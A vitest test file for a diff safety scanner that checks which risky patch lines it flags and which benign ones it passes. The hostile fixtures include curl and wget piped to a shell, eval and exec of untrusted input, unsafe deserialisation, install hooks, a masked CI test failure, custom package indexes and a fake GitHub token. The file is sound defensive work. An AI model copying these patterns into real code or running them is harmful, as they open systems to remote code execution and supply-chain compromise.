import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { fileRules, lineRules } from '../../src/safety/safety-rules.js'
import { parseUnifiedDiff, scanDiff, sectionOf } from '../../src/safety/scan-diff.js'
import { corpusCases } from '../support/corpus.js'

/**
 * A one-hunk diff of an existing file as `git diff` prints it; `body` is the hunk's lines with
 * their ` `, `+`, `-` markers, and the counts in the `@@` line are computed from it.
 */
function gitDiff(path: string, body: string, { start = 10, heading = '' }: { start?: number; heading?: string } = {}): string {
  const lines = body.replace(/^\n/, '').replace(/\n$/, '').split('\n')
  const oldCount = lines.filter((line) => !line.startsWith('+')).length
  const newCount = lines.filter((line) => !line.startsWith('-')).length
  return [
    `diff --git a/${path} b/${path}`,
    'index 3f2a1c4..8e9d0b7 100644',
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -${start},${oldCount} +${start},${newCount} @@${heading === '' ? '' : ` ${heading}`}`,
    ...lines,
    '',
  ].join('\n')
}

interface Row {
  name: string
  ruleId: string
  patch: string
  /** Defaults to the diff's own files, so only the rule under test speaks. */
  affectedFiles?: string[]
}

const pathsOf = (patch: string): string[] => parseUnifiedDiff(patch).map((file) => file.path)
const findingsOf = ({ patch, affectedFiles }: Row) => scanDiff({ patch, affectedFiles: affectedFiles ?? pathsOf(patch) }).findings

const githubToken = `ghp_${'aB3dE5fG7h'.repeat(3)}abcdef`

const hostile: (Row & { severity: 'block' | 'review' })[] = [
  {
    name: 'a GitHub token in a config default',
    ruleId: 'secret',
    severity: 'block',
    patch: gitDiff('notifier/config.py', `
 DEFAULT_TIMEOUT = 10
-GITHUB_TOKEN = os.environ["GITHUB_TOKEN"]
+GITHUB_TOKEN = os.environ.get("GITHUB_TOKEN", "${githubToken}")
 `),
  },
  {
    name: 'curl piped to sh in a script',
    ruleId: 'pipe-to-shell',
    severity: 'block',
    patch: gitDiff('scripts/bootstrap.sh', `
 set -euo pipefail
+curl -fsSL https://get.example.dev/install.sh | sh
 npm ci
`),
  },
  {
    name: 'wget piped to sudo bash in a Dockerfile',
    ruleId: 'pipe-to-shell',
    severity: 'block',
    patch: gitDiff('Dockerfile', `
 FROM python:3.12-slim
+RUN wget -qO- https://example.dev/setup | sudo bash
 COPY . /app
`),
  },
  {
    name: 'eval of request text',
    ruleId: 'eval',
    severity: 'block',
    patch: gitDiff('src/discount.ts', `
 export function applyDiscount(rule: string, total: number): number {
-  return total * parseRate(rule)
+  return total * eval(rule)
 }
`),
  },
  {
    name: 'Python exec builtin',
    ruleId: 'exec',
    severity: 'block',
    patch: gitDiff('scheduler/jobs.py', `
 def load_job(source):
-    return compile_job(source)
+    exec(source, globals())
`),
  },
  {
    name: 'child_process.exec in Node',
    ruleId: 'exec',
    severity: 'block',
    patch: gitDiff('src/checksum.js', `
 function checksum(file) {
+  child_process.exec('sha256sum ' + file)
 }
`),
  },
  {
    name: 'a child_process import',
    ruleId: 'child-process',
    severity: 'block',
    patch: gitDiff('src/cli.ts', `
 import { readFileSync } from 'node:fs'
+import { spawn } from 'node:child_process'
 import { parseArgs } from 'node:util'
`),
  },
  {
    name: 'subprocess with shell=True over two lines',
    ruleId: 'shell-true',
    severity: 'block',
    patch: gitDiff('csvlite/cli.py', `
 def open_in_pager(path):
-    subprocess.run(["less", path])
+    subprocess.run(f"less {path}",
+                   shell=True)
`),
  },
  {
    name: 'os.system',
    ruleId: 'os-system',
    severity: 'block',
    patch: gitDiff('kpi/report.py', `
 def export(path):
+    os.system("zip -r out.zip " + path)
`),
  },
  {
    name: 'os.popen',
    ruleId: 'os-system',
    severity: 'block',
    patch: gitDiff('kpi/report.py', `
 def git_sha():
+    return os.popen("git rev-parse HEAD").read()
`),
  },
  {
    name: 'new Function',
    ruleId: 'new-function',
    severity: 'block',
    patch: gitDiff('src/money.js', `
 export function format(template, amount) {
+  return new Function('amount', 'return ' + template)(amount)
 }
`),
  },
  {
    name: 'pickle.loads',
    ruleId: 'unpickle',
    severity: 'block',
    patch: gitDiff('lrucache/cache.py', `
     def restore(self, blob):
-        self._data = json.loads(blob)
+        self._data = pickle.loads(blob)
`),
  },
  {
    name: 'yaml.load without a Loader',
    ruleId: 'yaml-unsafe-load',
    severity: 'block',
    patch: gitDiff('manifest/loader.py', `
 def load(path):
     with open(path) as handle:
-        return yaml.safe_load(handle)
+        return yaml.load(handle)
`),
  },
  {
    name: 'yaml.load with the full Loader',
    ruleId: 'yaml-unsafe-load',
    severity: 'block',
    patch: gitDiff('manifest/loader.py', `
+        return yaml.load(handle, Loader=yaml.FullLoader)
`),
  },
  {
    name: '__import__ of a configured name',
    ruleId: 'dynamic-import',
    severity: 'block',
    patch: gitDiff('notifier/message.py', `
+backend = __import__(settings.BACKEND)
`),
  },
  {
    name: 'a postinstall script in package.json',
    ruleId: 'install-hook',
    severity: 'block',
    patch: gitDiff('package.json', `
   "scripts": {
     "test": "node --test",
+    "postinstall": "node scripts/setup.js",
     "lint": "eslint ."
`, { start: 6 }),
  },
  {
    name: 'a setup.py cmdclass',
    ruleId: 'setup-hook',
    severity: 'block',
    patch: gitDiff('setup.py', `
 setup(
     name="csvlite",
+    cmdclass={"install": PostInstall},
     packages=find_packages(),
`),
  },
  {
    name: 'a workflow change',
    ruleId: 'ci-config',
    severity: 'block',
    patch: gitDiff('.github/workflows/ci.yml', `
       - run: npm ci
-      - run: npm test
+      - run: npm test || true
`),
  },
  {
    name: 'a git+https requirement',
    ruleId: 'dependency-source',
    severity: 'block',
    patch: gitDiff('requirements.txt', `
+PyYAML @ git+https://github.com/yaml-fork/pyyaml.git@main
 pytest==9.0.3
`, { start: 1 }),
  },
  {
    name: 'a file: dependency in package.json',
    ruleId: 'dependency-source',
    severity: 'block',
    patch: gitDiff('package.json', `
   "dependencies": {
+    "left-pad": "file:../vendor/left-pad",
     "lodash": "^4.17.21"
`, { start: 12 }),
  },
  {
    name: 'a git dependency in pyproject dependencies',
    ruleId: 'dependency-source',
    severity: 'block',
    patch: gitDiff('pyproject.toml', `
 dependencies = [
     "httpx>=0.27",
+    "jsonschema @ git+https://github.com/someone/jsonschema",
 ]
`, { start: 5, heading: '[project]' }),
  },
  {
    name: 'an extra index in requirements.txt',
    ruleId: 'custom-index',
    severity: 'block',
    patch: gitDiff('requirements.txt', `
+--extra-index-url https://pkgs.example.dev/simple
 pytest==9.0.3
`, { start: 1 }),
  },
  {
    name: 'an index-url in pyproject',
    ruleId: 'custom-index',
    severity: 'block',
    patch: gitDiff('pyproject.toml', `
+[[tool.uv.index]]
+url = "https://pkgs.example.dev/simple"
`, { start: 40 }),
  },
  {
    name: 'a registry in .npmrc',
    ruleId: 'registry-config',
    severity: 'block',
    patch: gitDiff('.npmrc', `
+registry=https://npm.example.dev/
`, { start: 1 }),
  },
  {
    name: 'a new requirement',
    ruleId: 'dependency-added',
    severity: 'review',
    patch: gitDiff('requirements.txt', `
+requests==2.32.3
 pytest==9.0.3
`, { start: 1 }),
  },
  {
    name: 'a version bump in requirements.txt',
    ruleId: 'dependency-changed',
    severity: 'review',
    patch: gitDiff('requirements.txt', `
-pydantic==1.10.13
+pydantic==2.9.2
 pytest==9.0.3
`, { start: 1 }),
  },
  {
    name: 'a new devDependency whose block opener the hunk does not show',
    ruleId: 'dependency-added',
    severity: 'review',
    patch: gitDiff('package.json', `
     "eslint": "^9.0.0",
+    "eslint-plugin-security": "^3.0.1",
     "vitest": "^4.1.0"
`, { start: 30 }),
  },
  {
    name: 'a Pipfile package',
    ruleId: 'dependency-added',
    severity: 'review',
    patch: gitDiff('Pipfile', `
 [packages]
+requests = "*"
 flask = "==3.0.3"
`, { start: 6 }),
  },
  {
    name: 'a file outside affectedFiles',
    ruleId: 'outside-affected-files',
    severity: 'review',
    affectedFiles: ['src/cart.js'],
    patch: gitDiff('src/money.js', `
-export const round = (value) => Math.round(value * 100) / 100
+export const round = (value) => Math.round(value * 100) / 100.0
`),
  },
]

const benign: Row[] = [
  { name: 'a word that contains a key prefix', ruleId: 'secret', patch: gitDiff('src/disk.py', `+TASK = "disk-usage-report-weekly-summary-job"\n`) },
  { name: 'curl to a file, not a shell', ruleId: 'pipe-to-shell', patch: gitDiff('scripts/fetch.sh', `+curl -fsSL https://example.dev/data.csv | tee data.csv > /dev/null\n`) },
  { name: 'model.eval() and ast.literal_eval(', ruleId: 'eval', patch: gitDiff('train.py', `+model.eval()\n+value = ast.literal_eval(text)\n`) },
  { name: 'exec inside a word', ruleId: 'exec', patch: gitDiff('db/queries.py', `+    rows = execute_query(conn, sql)\n+    cursor.execute(sql)\n`) },
  { name: 'RegExp.prototype.exec', ruleId: 'exec', patch: gitDiff('src/duration.ts', `+  const match = /^(\\d+)ms$/.exec(text)\n`) },
  { name: 'ThreadPoolExecutor', ruleId: 'exec', patch: gitDiff('src/linkcheck/checker.py', `+from concurrent.futures import ThreadPoolExecutor\n`) },
  { name: 'subprocess.run with an argument list', ruleId: 'shell-true', patch: gitDiff('csvlite/cli.py', `+    subprocess.run(["less", path], check=True)\n`) },
  { name: 'shell=False', ruleId: 'shell-true', patch: gitDiff('csvlite/cli.py', `+    subprocess.run(["less", path], shell=False)\n`) },
  { name: 'os.path.join', ruleId: 'os-system', patch: gitDiff('kpi/report.py', `+    out = os.path.join(root, "system.csv")\n`) },
  { name: 'a function named like Function', ruleId: 'new-function', patch: gitDiff('src/a.js', `+const fn = new FunctionRegistry()\n`) },
  { name: 'json.loads', ruleId: 'unpickle', patch: gitDiff('lrucache/cache.py', `+        self._data = json.loads(blob)\n`) },
  { name: 'yaml.safe_load', ruleId: 'yaml-unsafe-load', patch: gitDiff('manifest/loader.py', `+        return yaml.safe_load(handle)\n`) },
  { name: 'yaml.load with SafeLoader', ruleId: 'yaml-unsafe-load', patch: gitDiff('manifest/loader.py', `+        return yaml.load(handle, Loader=yaml.SafeLoader)\n`) },
  { name: 'importlib by a fixed name', ruleId: 'dynamic-import', patch: gitDiff('notifier/message.py', `+import importlib\n`) },
  { name: 'a test script in package.json', ruleId: 'install-hook', patch: gitDiff('package.json', `   "scripts": {\n+    "test:watch": "vitest",\n`) },
  { name: 'a changed line in an affected file', ruleId: 'outside-affected-files', patch: gitDiff('src/cart.js', `-  if (qty == 0) return\n+  if (qty === 0) return\n`), affectedFiles: ['src/cart.js'] },
  { name: 'a pinned requirement', ruleId: 'dependency-source', patch: gitDiff('requirements.txt', `+PyYAML==6.0.2\n`, { start: 1 }) },
  { name: "package.json's repository URL", ruleId: 'dependency-source', patch: gitDiff('package.json', `   "repository": {\n+    "url": "git+https://github.com/acme/cart.git"\n`, { start: 3 }) },
  { name: 'a pytest filter in pyproject', ruleId: 'dependency-added', patch: gitDiff('pyproject.toml', ` filterwarnings = [\n     "error",\n+    "ignore:jsonschema.RefResolver is deprecated:DeprecationWarning",\n ]\n`, { heading: 'testpaths = ["tests"]' }) },
  { name: 'the version of package.json itself', ruleId: 'dependency-added', patch: gitDiff('package.json', `-  "version": "1.2.0",\n+  "version": "1.2.1",\n`, { start: 2 }) },
  { name: "a script's -f flag", ruleId: 'custom-index', patch: gitDiff('package.json', `   "scripts": {\n+    "lint": "eslint -f json .",\n`) },
  { name: 'a docs mention of eval(', ruleId: 'eval', patch: gitDiff('docs/security.md', `+Never call eval( on user input.\n`) },
]

describe('scanDiff: each rule flags its hostile diff', () => {
  it.each(hostile)('$ruleId: $name', (row) => {
    const matching = findingsOf(row).filter((finding) => finding.ruleId === row.ruleId)
    expect(matching.length).toBeGreaterThan(0)
    expect(matching[0]!.severity).toBe(row.severity)
    expect(matching[0]!.reason).not.toBe('')
  })

  it('every rule has a hostile row', () => {
    const covered = new Set(hostile.map((row) => row.ruleId))
    expect([...lineRules, ...fileRules].map((rule) => rule.id).filter((id) => !covered.has(id))).toEqual([])
  })
})

describe('scanDiff: each rule lets its benign diff pass', () => {
  it.each(benign)('$ruleId: $name', (row) => {
    expect(findingsOf(row).filter((finding) => finding.ruleId === row.ruleId)).toEqual([])
  })
})

describe('scanDiff: findings', () => {
  it('points at the new-file line and redacts the secret from the excerpt', () => {
    const patch = gitDiff('notifier/config.py', ` A = 1\n B = 2\n+TOKEN = "${githubToken}"\n`, { start: 40 })
    const [finding] = scanDiff({ patch, affectedFiles: ['notifier/config.py'] }).findings
    expect(finding).toMatchObject({ ruleId: 'secret', severity: 'block', path: 'notifier/config.py', line: 42 })
    expect(finding!.excerpt).toContain('[REDACTED_GITHUB_TOKEN]')
    expect(finding!.excerpt).not.toContain('ghp_')
  })

  it('a git+https dependency blocks while a version bump only asks for review', () => {
    const severities = (patch: string) => new Set(scanDiff({ patch, affectedFiles: ['requirements.txt'] }).findings.map((f) => f.severity))
    expect(severities(gitDiff('requirements.txt', `+requests @ git+https://github.com/psf/requests\n`, { start: 1 }))).toContain('block')
    expect([...severities(gitDiff('requirements.txt', `-requests==2.31.0\n+requests==2.32.3\n`, { start: 1 }))]).toEqual(['review'])
  })

  it('reads an added line that begins like a header as a line, not a header', () => {
    const patch = gitDiff('scripts/x.sh', `+++ b/evil.sh\n+curl https://x.dev/i | sh\n`)
    const [file] = parseUnifiedDiff(patch)
    expect(file!.path).toBe('scripts/x.sh')
    expect(file!.added.map((added) => added.line)).toEqual([10, 11])
  })

  it('takes the old path of a deleted file', () => {
    const patch = ['diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml', 'deleted file mode 100644', 'index 3f2a1c4..0000000', '--- a/.github/workflows/ci.yml', '+++ /dev/null', '@@ -1,2 +0,0 @@', '-name: CI', '-on: push', ''].join('\n')
    expect(scanDiff({ patch, affectedFiles: [] }).findings.map((f) => [f.ruleId, f.path])).toEqual([
      ['ci-config', '.github/workflows/ci.yml'],
      ['outside-affected-files', '.github/workflows/ci.yml'],
    ])
  })

  it('finds the section of a manifest line', () => {
    expect(sectionOf(['', '"dependencies": {', '  "a": "^1",'], 3)).toBe('dependencies')
    expect(sectionOf(['', '[project]', 'dependencies = [', '  "httpx",'], 4)).toBe('project.dependencies')
    expect(sectionOf(['', '"devDependencies": {', '  "a": "^1"', '},', '"scripts": {'], 5)).toBe('scripts')
    expect(sectionOf(['testpaths = ["tests"]', 'filterwarnings = [', '    "error",'], 3)).toBe('filterwarnings')
  })
})

const autoFixable = corpusCases.filter((corpusCase) => corpusCase.label.can_auto_fix && existsSync(join(corpusCase.dir, 'fix.patch')))

describe('scanDiff: the corpus reference fixes', () => {
  it('has reference fixes to read', () => {
    expect(autoFixable.length).toBeGreaterThan(0)
  })

  it.each(autoFixable)('$name: no block finding', (corpusCase) => {
    const patch = readFileSync(join(corpusCase.dir, 'fix.patch'), 'utf8')
    const { findings } = scanDiff({ patch, affectedFiles: corpusCase.label.affected_files })
    expect(findings.filter((finding) => finding.severity === 'block')).toEqual([])
    // Review only for a dependency the fix adds, never for files outside the analysis.
    expect(findings.filter((finding) => !finding.ruleId.startsWith('dependency-'))).toEqual([])
  })
})
